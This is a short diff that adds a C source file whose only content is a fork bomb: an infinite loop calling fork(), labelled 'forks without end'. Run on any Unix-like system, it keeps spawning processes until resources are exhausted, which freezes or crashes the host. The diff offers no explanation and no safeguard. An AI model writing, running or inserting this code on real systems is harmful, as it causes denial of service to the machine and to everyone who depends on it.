@@ -1,0 +1,9 @@
+// forks without end
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;) {
+        fork();
+    }
+}
